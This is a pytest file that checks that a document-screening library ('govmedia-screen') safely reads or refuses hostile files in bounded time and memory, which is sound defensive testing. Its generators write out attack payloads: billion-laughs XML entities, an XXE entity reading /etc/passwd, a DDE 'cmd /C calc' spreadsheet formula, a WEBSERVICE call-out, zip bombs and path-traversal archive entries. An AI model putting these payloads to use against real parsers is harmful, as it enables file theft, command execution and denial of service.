"""Files made to do harm: each is read or refused with a sentence, in bounded time and memory, and nothing is written."""

from __future__ import annotations

import io
import os
import resource
import signal
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from office import W, mail, pdf, replaced, saved, zipped

needs = 'needs the extra: pip install "govmedia-screen[documents]"'
docx = pytest.importorskip("docx", reason=needs)
openpyxl = pytest.importorskip("openpyxl", reason=needs)
pytest.importorskip("pypdfium2", reason=needs)
pytest.importorskip("python_calamine", reason=needs)
#: What a file may take at most: seconds of processor time (a busy machine is no hang; waiting is ended after six times as many), and bytes beyond what the tests themselves hold.
SECONDS, MEMORY = 10, 500 << 20
READ, REFUSED = 0, 3
N = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def word(body: str, head: str = "") -> bytes:
    file = docx.Document()
    return replaced(saved(file), {"word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>".encode()})


def sheet(rows: str, head: str = "", before: str = "") -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "文字"
    xml = f"{head}<worksheet {N}>{before}<sheetData>{rows}</sheetData></worksheet>"
    return replaced(saved(book), {"xl/worksheets/sheet1.xml": xml.encode()})


def lying(data: bytes, member: str, size: int) -> bytes:
    """A zip whose directory and local header say another size for a member."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        info = packed.getinfo(member)
    changed = bytearray(data)
    struct.pack_into("<I", changed, info.header_offset + 22, size)
    place = data.rindex(member.encode()) - 46
    struct.pack_into("<I", changed, place + 24, size)
    return bytes(changed)


def bomb(size: int) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as packed, packed.open("a.txt", "w") as member:
        for _ in range(size >> 20):
            member.write(b"0" * (1 << 20))
    return data.getvalue()


def nested(depth: int) -> bytes:
    data = "最里面".encode()
    for _ in range(depth):
        data = zipped({"a.zip" if data[:2] == b"PK" else "a.txt": data})
    return data


def png(wide: int, high: int, data: bytes = b"") -> bytes:
    """A PNG that says it has that size."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(data))
        + chunk(b"IEND", b"")
    )


def ods(rows: str) -> bytes:
    spaces = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = f'<office:document-content {spaces} office:version="1.2"><office:body><office:spreadsheet><table:table table:name="A">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()})


def pdf_of(objects: list[str], head: str = "%PDF-1.7\n") -> bytes:
    """A PDF of those objects, the first the catalogue."""
    data = head
    offsets = []
    for number, one in enumerate(objects, 1):
        offsets.append(len(data))
        data += f"{number} 0 obj\n{one}\nendobj\n"
    start = len(data)
    data += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    data += f"trailer <</Size {len(objects) + 1} /Root 1 0 R>>\nstartxref\n{start}\n%%EOF"
    return data.encode("latin-1")


def packed_stream(content: bytes) -> str:
    """A stream object, compressed."""
    data = zlib.compress(content, 9)
    return f"<</Filter /FlateDecode /Length {len(data)}>>stream\n{data.decode('latin-1')}\nendstream"


def encrypted_pdf() -> bytes:
    from reportlab.pdfgen.canvas import Canvas

    data = io.BytesIO()
    canvas = Canvas(data, encrypt="secret")
    canvas.drawString(50, 700, "text")
    canvas.save()
    return data.getvalue()


def cut(make: Callable[[], bytes], share: float) -> Callable[[], bytes]:
    return lambda: (data := make())[: int(len(data) * share)]


def plain_word() -> bytes:
    return word("<w:p><w:r><w:t>正文一段。</w:t></w:r></w:p>" * 200)


def plain_book() -> bytes:
    return sheet("".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>字</t></is></c></row>' for n in range(1, 500)))


def plain_pdf() -> bytes:
    return pdf([["正文一段。"]] * 5)


def flipped(make: Callable[[], bytes], step: int) -> Callable[[], bytes]:
    def made() -> bytes:
        data = bytearray(make())
        for place in range(100, len(data), step):
            data[place] ^= 0x55
        return bytes(data)

    return made


CATALOGUE = "<</Type /Catalog /Pages 2 0 R>>"
FILES: dict[str, tuple[str, Callable[[], bytes], int | None]] = {
    "docx entity expansion": ("a.docx", lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", LAUGHS), REFUSED),
    "docx entity from a file": ("a.docx", lambda: word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", OUTSIDE), REFUSED),
    "docx deep elements": ("a.docx", lambda: word("<w:p>" * 100_000), REFUSED),
    "docx deep tables": ("a.docx", lambda: word("<w:tbl><w:tr><w:tc>" * 70 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 70), READ),
    "docx of 300 MB of spaces": ("a.docx", lambda: word("<w:p><w:r><w:t>" + " " * (300 << 20) + "</w:t></w:r></w:p>"), REFUSED),
    "docx with a wide cell": ("a.docx", lambda: word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'), READ),
    "docx that lies about sizes": ("a.docx", lambda: lying(word("<w:p>" + "<w:r/>" * 100_000 + "</w:p>"), "word/document.xml", 10), REFUSED),
    "docx without text": ("a.docx", lambda: replaced(plain_word(), {"word/document.xml": None}), REFUSED),
    "docx with broken XML": ("a.docx", lambda: word("<w:p><w:r>"), REFUSED),
    "docx without types": ("a.docx", lambda: replaced(plain_word(), {"[Content_Types].xml": None}), REFUSED),
    "docx with an outside template": (
        "a.docx",
        lambda: replaced(plain_word(), {"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="t" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'}),
        READ,
    ),
    "docx with macros": ("a.docm", lambda: replaced(plain_word(), {"word/vbaProject.bin": b"\0" * 100}), READ),
    "docx with a path upwards": ("a.docx", lambda: replaced(plain_word(), {"../../escaped.xml": b"<a/>", "word/media/../../../escaped.png": png(100, 100)}), READ),
    "docx with a huge picture": ("a.docx", lambda: replaced(plain_word(), {"word/media/a.png": png(100_000, 100_000)}), READ),
    "docx with a picture that unpacks": ("a.docx", lambda: replaced(plain_word(), {"word/media/a.png": b"\x89PNG\r\n\x1a\n" + b"\0" * (120 << 20)}), READ),
    "docx with 100,000 boxes in one paragraph": ("a.docx", lambda: word("<w:p>" + "<w:txbxContent><w:p><w:r><w:t>a</w:t></w:r></w:p></w:txbxContent>" * 5_000 + "</w:p>"), READ),
    "docx cut in half": ("a.docx", cut(plain_word, 0.5), REFUSED),
    "docx with flipped bytes": ("a.docx", flipped(plain_word, 97), None),
    "xlsx entity expansion": ("a.xlsx", lambda: sheet("<row><c><v>&j;</v></c></row>", LAUGHS), None),
    "xlsx of absurd dimension": ("a.xlsx", lambda: sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'), READ),
    "xlsx with far cells in every row": ("a.xlsx", lambda: sheet("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 50_000))), READ),
    "xlsx with cells backwards": ("a.xlsx", lambda: sheet('<row r="1"><c r="C1"><v>1</v></c><c r="A1"><v>2</v></c></row><row r="1"><c r="A1"><v>3</v></c></row>'), READ),
    "xlsx with string numbers beyond": ("a.xlsx", lambda: sheet('<row r="1"><c r="A1" t="s"><v>99999999999</v></c><c r="B1" t="s"><v>-1</v></c></row>'), READ),
    "xlsx with odd numbers and dates": ("a.xlsx", lambda: sheet('<row r="x"><c r="1A"><v>1e999</v></c><c r="ZZZZ9"><v>nan</v></c><c><v>-1e18</v></c></row>'), READ),
    "xlsx with all columns hidden a million times": ("a.xlsx", lambda: sheet('<row r="1"><c r="A1"><v>1</v></c></row>', before="<cols>" + '<col min="1" max="16384" hidden="1"/>' * 5_000 + "</cols>"), READ),
    "xlsx with formulas that call out": ("a.xlsx", lambda: sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/")</f></c><c r="B1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c></row>'), READ),
    "xlsx sheet broken half way": ("a.xlsx", lambda: sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c'), READ),
    "xlsx whose sheets are missing": ("a.xlsx", lambda: replaced(plain_book(), {"xl/worksheets/sheet1.xml": None}), READ),
    "xlsx of 400 MB": ("a.xlsx", lambda: sheet("<row>" + " " * (400 << 20) + "</row>"), REFUSED),
    "xlsx cut": ("a.xlsx", cut(plain_book, 0.8), REFUSED),
    "xlsx with flipped bytes": ("a.xlsx", flipped(plain_book, 61), None),
    "ods of repeated cells": ("a.ods", lambda: ods('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>'), REFUSED),
    "ods with a far cell": ("a.ods", lambda: ods('<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row><table:table-row><table:table-cell table:number-columns-repeated="16383"/><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>'), REFUSED),
    "xls that is only its first bytes": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + b"\xff" * 5000, REFUSED),
    "encrypted office file": ("a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le"), REFUSED),
    "zip bomb": ("a.zip", lambda: bomb(300 << 20), READ),
    "zip of many bombs": ("a.zip", lambda: zipped({f"{n}.txt": b"0" * (8 << 20) for n in range(40)}), READ),
    "zip in zip in zip": ("a.zip", lambda: nested(12), READ),
    "zip with paths upwards": ("a.zip", lambda: zipped({"../../escaped.txt": "正文".encode(), "/etc/escaped.txt": "正文".encode(), "C:\\escaped.txt": "正文".encode()}), READ),
    "zip that lies about sizes": ("a.zip", lambda: lying(zipped({"a.txt": b"0" * 5_000_000}), "a.txt", 10), READ),
    "zip of 30,000 files": ("a.zip", lambda: zipped({f"{n}.txt": b"" for n in range(30_000)}), REFUSED),
    "zip cut": ("a.zip", cut(lambda: zipped({"a.txt": os.urandom(5000)}), 0.7), REFUSED),
    "pdf of nothing": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF", REFUSED),
    "pdf without pages": ("a.pdf", lambda: pdf_of([CATALOGUE, "<</Type /Pages /Kids [] /Count 0>>"]), REFUSED),
    "pdf whose pages are their own parents": ("a.pdf", lambda: pdf_of([CATALOGUE, "<</Type /Pages /Kids [2 0 R 2 0 R] /Count 99999>>"]), None),
    "pdf that says a billion pages": ("a.pdf", lambda: pdf_of([CATALOGUE, "<</Type /Pages /Kids [3 0 R] /Count 1000000000>>", "<</Type /Page /Parent 2 0 R>>"]), None),
    "pdf of absurd page size": ("a.pdf", lambda: pdf_of([CATALOGUE, "<</Type /Pages /Kids [3 0 R] /Count 1>>", "<</Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] /Contents 4 0 R>>", "<</Length 21>>stream\n0 0 900000000 9 re f\nendstream"]), None),
    "pdf stream that unpacks": (
        "a.pdf",
        lambda: pdf_of([CATALOGUE, "<</Type /Pages /Kids [3 0 R] /Count 1>>", "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R>>", packed_stream(b"q " * (20 << 20))]),
        REFUSED,
    ),
    "pdf encrypted": ("a.pdf", encrypted_pdf, REFUSED),
    "pdf cut": ("a.pdf", cut(plain_pdf, 0.6), None),
    "pdf with flipped bytes": ("a.pdf", flipped(plain_pdf, 53), None),
    "mail in mail in mail": ("a.eml", lambda: mail("外", "文", {"b.eml": mail("中", "文", {"c.eml": mail("内", "文", {"d.eml": mail("里", "文", {})})})}), READ),
    "mail of 2,000 parts": ("a.eml", lambda: mail("多", "文", {f"{n}.txt": b"a" for n in range(2000)}), REFUSED),
    "mail with endless header": ("a.eml", lambda: b"From: a\r\nSubject: " + b"=?utf-8?B?" * 20_000 + b"\r\n\r\n" + "正文".encode(), None),
    "csv without end of quote": ("a.csv", lambda: b'a,b\n"' + b"x" * (3 << 20), REFUSED),
    "csv of one line": ("a.csv", lambda: b"1," * 2_000_000, READ),
    "html in 50,000 levels": ("a.html", lambda: b"<div style='display:none'>" * 50_000 + "文".encode(), READ),
    "picture of absurd size": ("a.png", lambda: png(60_000, 60_000), REFUSED),
    "picture cut": ("a.png", lambda: png(300, 300, b"\0" * 1000), REFUSED),
    "gif of nothing": ("a.gif", lambda: b"GIF89a" + b"\0" * 7, REFUSED),
    "tiff that leads to itself": ("a.tif", lambda: b"II*\0\x08\0\0\0" + b"\x01\0" + b"\0\x01\x03\0\x01\0\0\0\x01\0\0\0" + b"\x08\0\0\0", REFUSED),
}  # fmt: skip


def outcome(data: bytes, name: str) -> int:
    """Read the file in a process of its own, with bounds; READ, REFUSED, or what ended it."""
    child = os.fork()
    if child == 0:
        code = 99
        try:
            held = int(Path("/proc/self/statm").read_text("ascii").split()[0]) * resource.getpagesize()
            resource.setrlimit(resource.RLIMIT_AS, (held + MEMORY, held + MEMORY))
            resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
            signal.alarm(6 * SECONDS)
            code = attempt(data, name)
        finally:
            os._exit(code)
    _, status = os.waitpid(child, 0)
    return os.waitstatus_to_exitcode(status)


def attempt(data: bytes, name: str) -> int:
    """READ or REFUSED; a file that is read is located and says what is missing, too."""
    from govmedia_screen.documents import parse_each
    from govmedia_screen.errors import ScreenError

    try:
        for document in parse_each(data, name):
            for part in document.post.parts:
                text = document.post.part(part)
                if document.origin and text:
                    for offset in range(0, len(text), max(1, len(text) // 50)):
                        document.origin.location(part, text, offset)
    except ScreenError as error:
        return REFUSED if str(error).startswith(name) or "pip install" in str(error) else 98
    return READ


@pytest.mark.skipif(not hasattr(os, "fork"), reason="processes with bounds need fork")
@pytest.mark.parametrize("case", FILES)
def test_hostile_files_cost_little_and_break_nothing(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import govmedia_screen.documents.picture as picture

    name, make, wanted = FILES[case]
    data = make()
    inside = tmp_path / "a" / "b" / "c"
    inside.mkdir(parents=True)
    monkeypatch.chdir(inside)
    monkeypatch.setenv("TMPDIR", str(inside))
    if not name.endswith((".png", ".gif", ".tif")):
        monkeypatch.setattr(picture, "ready", lambda: False)  # recognition holds memory of its own; it is tried where it is tested
    else:
        pytest.importorskip("PIL", reason='needs the extra: pip install "govmedia-screen[image]"')
        monkeypatch.setattr(picture, "recogniser", lambda: None)

    begun = time.monotonic()
    code = outcome(data, name)

    assert code in (READ, REFUSED), f"ended by {code} after {time.monotonic() - begun:.1f} s"
    assert wanted is None or code == wanted
    assert [one for one in tmp_path.rglob("*") if one.is_file()] == []


def test_there_are_at_least_forty() -> None:
    assert len(FILES) >= 40
